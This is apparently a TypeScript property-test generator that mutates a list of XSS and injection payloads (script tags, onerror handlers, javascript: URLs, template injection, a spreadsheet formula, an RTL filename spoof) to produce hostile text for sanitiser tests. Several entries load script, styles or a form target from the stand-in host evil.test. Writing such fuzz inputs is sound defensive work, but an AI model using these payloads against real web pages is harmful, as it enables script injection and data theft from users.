import * as fc from 'fast-check'

/**
 * Payloads known from attacks that confused text with something else: complete, unclosed, unopened, and wrapped in
 * formats that players read.
 */
const pieces = [
  '<script>alert(1)</script>',
  '<script src=//evil.test/x.js></script>',
  '</script><script>alert(2)</script>',
  '</textarea><img src=x onerror=alert(3)>',
  '<img src=x onerror="alert(4)">',
  '<svg onload=alert(5)>',
  '<svg><script>alert(6)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(7)</script>">',
  '<a href="javascript:alert(8)">x</a>',
  '<object data="data:text/html,<script>alert(9)</script>">',
  '<style>@import url(//evil.test/x.css);</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<base href=//evil.test/>',
  '<form action=//evil.test><button>x',
  '<input autofocus onfocus=alert(10)>',
  '<details open ontoggle=alert(11)>',
  '<video src=x onerror=alert(12)>',
  '"onmouseover="alert(13)',
  "';alert(14);//",
  '`${alert(15)}`',
  '{{constructor.constructor("alert(16)")()}}',
  '&lt;script&gt;alert(17)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(18)&#62;',
  '<v <img src=x onerror=alert(19)>>',
  '<c.</style><script>alert(20)</script>>',
  '{\\pos(0,0)}{\\p1}m 0 0',
  '-->\n\n2\n00:00:01.000 --> 00:00:02.000\n<script>alert(21)</script>',
  '=HYPERLINK("http://evil.test","x")',
  '\u202Egnp.exe\u202C',
  '\u2028alert(22)\u2029',
  ']]><!--',
  '--><!DOCTYPE html>',
  '汉字',
]

/** What is inserted where a payload is cut. */
const faults = ['', '<', '>', '"', "'", '&', '\\', '/', '\t', '\n', '\u00AD', '\u200B', '%00', '\uFEFF']

const piece = fc
  .tuple(
    fc.constantFrom(...pieces),
    fc.nat(),
    fc.constantFrom(...faults),
    fc.constantFrom('as it is', 'broken', 'loud', 'cut off'),
  )
  .map(([text, at, fault, how]) => {
    const here = at % text.length
    if (how === 'broken') return text.slice(0, here) + fault + text.slice(here)
    if (how === 'loud') return text.toUpperCase()
    return how === 'cut off' ? text.slice(0, here + 1) : text
  })

const texts = fc.array(piece, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''))

/** Texts that try to be interpreted as code; the same ones for each seed. */
export const hostileTexts = (count: number, seed: number): string[] =>
  fc.sample(texts, { numRuns: count, seed })
